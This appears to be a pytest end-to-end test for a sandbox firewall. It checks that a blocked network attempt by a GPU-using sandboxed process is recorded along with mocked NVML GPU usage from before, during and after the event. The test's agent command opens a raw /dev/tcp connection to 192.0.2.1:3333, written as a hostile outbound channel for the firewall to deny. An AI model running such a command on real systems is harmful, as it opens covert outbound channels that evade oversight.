"""A blocked attempt of a sandbox that uses a GPU, by a scripted NVML: who, before, and after."""

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from firewall.cli.main import app
from firewall.gpu.monitor import FRESH
from firewall.gpu.processes import sees_host_pids
from firewall.sandbox.procfs import family
from tests.e2e.conftest import Workplace
from tests.nvml import Script, Stub, build, loaded
from tests.waiting import PATIENCE, eventually

pytestmark = pytest.mark.skipif(
    not sees_host_pids(), reason="in a pid namespace of its own no pid of NVML means anything"
)

POLICY = "version: 1\nname: t\nextends: [base]\n"
AGENT = "echo ready; read; exec 3<>/dev/tcp/192.0.2.1/3333; echo x >&3; cat <&3; read"


@pytest.fixture
def stub(tmp_path: Path) -> Iterator[Stub]:
    made = build(tmp_path)
    made.write(Script().device())
    with loaded(made):
        yield made


def _told(workplace: Workplace, *words: str) -> str:
    done = CliRunner().invoke(app, words, env=workplace.environment)
    assert done.exit_code == 0, done.output
    return done.output


def test_the_record_joins_the_attempt_with_the_gpu(workplace: Workplace, stub: Stub) -> None:
    workplace.environment |= stub.environment
    process = workplace.start(workplace.policy(POLICY), AGENT, "ready")
    *_, agent = family(process.pid)
    stub.write(Script().device().process(agent, memory_used=9 << 30).sample(agent, 97))
    top = json.loads(_told(workplace, "gpu", "top", "--once", "--json"))
    time.sleep(2 * FRESH)  # a reading from before would still count as that moment's
    assert process.stdin is not None
    process.stdin.write("\n")
    process.stdin.flush()
    (blocked, *_) = eventually(lambda: _blocked(workplace))
    process.communicate("\n", timeout=PATIENCE)

    gpu = blocked["gpu"]
    assert (gpu["status"], gpu["devices"][0]["utilisation"]) == ("ok", 93)
    (mine,) = gpu["devices"][0]["processes"]
    assert (mine["pid"], mine["sm"], mine["relation"]) == (agent, 97, "same process")
    assert mine["sandbox"] == blocked["actor"]["sandbox"]
    assert mine["sandbox"] == top["devices"][0]["processes"][0]["sandbox"]
    assert gpu["before"]["age_ms"] >= 0
    assert gpu["history"]
    (after,) = [each for each in workplace.records() if each["kind"] == "gpu-after"]
    assert (after["moments"], after["ended"]) == ([gpu["moment"]], "the firewall stopped")
    story = _told(workplace, "audit", "show")
    assert "97 %, 9.0 GiB, relation same process" in story
    assert "the minute before | that moment | the minute after" in story


def _blocked(workplace: Workplace) -> list[dict[str, Any]]:
    """What was denied, oldest first."""
    return [each for each in workplace.records() if _is_denied(each)]


def _is_denied(record: dict[str, Any]) -> bool:
    return "verdict" in record and record["verdict"]["action"] == "deny"
